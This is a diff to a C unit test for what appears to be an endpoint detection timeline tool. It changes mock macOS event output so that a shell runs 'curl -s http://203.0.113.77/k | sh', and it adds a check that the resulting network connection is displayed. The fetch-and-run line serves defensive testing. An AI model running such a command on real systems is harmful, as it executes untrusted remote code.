@@ -385,11 +385,13 @@ static void test_rule_versions_sequences_and_coverage(void **state)
 	             "  2026-11-20T08:05:29.777844Z  mac-lisbon-01         file/modification         "
 	             "ZoomUpdate        /Library/DirectoryServices/PlugIns/CoreSync.dsplug/Contents/MacOS/CoreSync\n"
 	             "  2026-11-20T08:05:33.977844Z  mac-lisbon-01         process/exec              "
-	             "sh                /bin/sh\n"));
+	             "sh                /bin/sh -c curl -s http://203.0.113.77/k | sh\n")); /* its command line */
 	/* the timeline marks both */
 	assert_int_equal(CB("v.db", "timeline %s --before 1s --after 5s", prefix), 0);
 	assert_int_equal(tu_count(out.buf, "\n> "), 2);
 	assert_non_null(strstr(out.buf, "> 2026-11-20T08:05:33.977844Z  mac-lisbon-01         process/exec"));
+	/* the connection the shell made shows its address, not the shell's path again */
+	assert_non_null(strstr(out.buf, "network/connection_atte…  sh                → 203.0.113.77:80\n"));
 	/* both versions side by side */
 	assert_int_equal(CB("v.db", "rules enable 89fa6cb7-6b53-4de2-b604-648488841ab8 --version 111"), 0);
 	assert_string_equal(out.buf, "89fa6cb7-6b53-4de2-b604-648488841ab8 version 111 enabled\n");
